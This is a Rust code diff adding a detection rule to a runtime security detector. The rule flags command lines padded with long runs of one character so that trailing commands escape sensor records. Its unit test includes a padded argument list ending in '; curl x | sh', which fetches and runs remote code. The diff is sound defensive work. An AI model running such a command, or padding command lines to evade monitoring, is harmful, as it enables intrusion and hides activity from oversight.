@@ -204,7 +204,102 @@ pub(crate) fn check_exec(d: &Detector, e: &ExecInfo, lookup: &dyn ProcessLookup)
     out.extend(interactive_shell(d, b, e, lookup));
     out.extend(ld_preload(d, b, e, lookup));
     out.extend(crontab_install(d, b, e, lookup));
+    out.extend(argv_padding(d, e, lookup));
     out
+}
+
+/// A run of one repeated character at least this long in a command line too long for the
+/// exec record is padding.
+pub(super) const PADDING_RUN: usize = 512;
+
+/// The longest run of one repeated byte in the arguments joined by spaces (empty arguments
+/// padding a command line count as spaces too), with the byte.
+fn longest_run(argv: &[String]) -> (usize, u8) {
+    let (mut best, mut best_byte) = (0, 0);
+    let (mut run, mut prev) = (0, None);
+    let bytes = argv
+        .iter()
+        .enumerate()
+        .flat_map(|(i, a)| (i > 0).then_some(b' ').into_iter().chain(a.bytes()));
+    for b in bytes {
+        run = if prev == Some(b) { run + 1 } else { 1 };
+        prev = Some(b);
+        if run > best {
+            (best, best_byte) = (run, b);
+        }
+    }
+    (best, best_byte)
+}
+
+/// A command line longer than the exec record holds, padded with a long run of one character:
+/// the padding pushes what follows it past what sensors keep (the kernel now keeps the end
+/// too, so the command rules still see it). Medium: there is no ordinary reason for both.
+fn argv_padding(d: &Detector, e: &ExecInfo, lookup: &dyn ProcessLookup) -> Option<Candidate> {
+    if !e.argv_truncated {
+        return None;
+    }
+    let (run, byte) = longest_run(&e.argv);
+    if run < PADDING_RUN {
+        return None;
+    }
+    let shown = if byte.is_ascii_graphic() {
+        format!("'{}'", byte as char)
+    } else {
+        format!("0x{byte:02x}")
+    };
+    let mut context = RuntimeContext {
+        command_line_example: Some(redacted_command_line(&collapse_runs(&e.argv))),
+        ..RuntimeContext::default()
+    };
+    context
+        .additional
+        .insert("argvPadding".into(), format!("{run} x {shown}"));
+    Some(technique(
+        d,
+        &e.process,
+        lookup,
+        Raises {
+            finding_type: FindingType::DefenseEvasionSuspiciousCommand,
+            rule: "behaviour-argv-padding",
+            mitre: "T1027",
+            severity: Some(5.0),
+        },
+        draft(
+            "A command line was padded past what sensors record",
+            format!(
+                "Process {} (pid {}) was exec'd with a command line longer than the exec \
+                 record keeps, padded with {run} repetitions of {shown}.",
+                e.process.comm, e.process.pid
+            ),
+            String::new(),
+            context,
+        ),
+    ))
+}
+
+/// The arguments with every run of a repeated character longer than 16 cut to 16 and a note
+/// of how many were left out, for showing a padded command line.
+fn collapse_runs(argv: &[String]) -> Vec<String> {
+    argv.iter()
+        .map(|a| {
+            let mut out = String::new();
+            let mut chars = a.chars().peekable();
+            while let Some(c) = chars.next() {
+                let mut n = 1;
+                while chars.peek() == Some(&c) {
+                    chars.next();
+                    n += 1;
+                }
+                if n > 16 {
+                    out.extend(std::iter::repeat_n(c, 16));
+                    out.push_str(&format!("[... {} more]", n - 16));
+                } else {
+                    out.extend(std::iter::repeat_n(c, n));
+                }
+            }
+            out
+        })
+        .collect()
 }
 
 /// The file a shell or interpreter runs, from its arguments: the first operand that is not an
@@ -914,6 +1009,22 @@ mod tests {
         assert_eq!(op("node", &["node", "--eval", "1"]), None);
         assert_eq!(program_name("python3.11"), "python");
         assert_eq!(program_name("perl5.36.0"), "perl");
+    }
+
+    #[test]
+    fn padding_is_a_long_run_of_one_character() {
+        let padded = argv(&["/bin/sh", "-c", &" ".repeat(600), "; curl x | sh"]);
+        assert_eq!(longest_run(&padded), (602, b' '));
+        let empties: Vec<String> = std::iter::once("prog".to_owned())
+            .chain(std::iter::repeat_n(String::new(), 700))
+            .collect();
+        assert_eq!(longest_run(&empties).0, 700);
+        let distinct: Vec<String> = (0..400).map(|i| format!("--opt-{i:04}")).collect();
+        assert!(longest_run(&distinct).0 < PADDING_RUN);
+        assert_eq!(
+            collapse_runs(&argv(&["a", &"x".repeat(40)])),
+            ["a", "xxxxxxxxxxxxxxxx[... 24 more]"]
+        );
     }
 
     #[test]
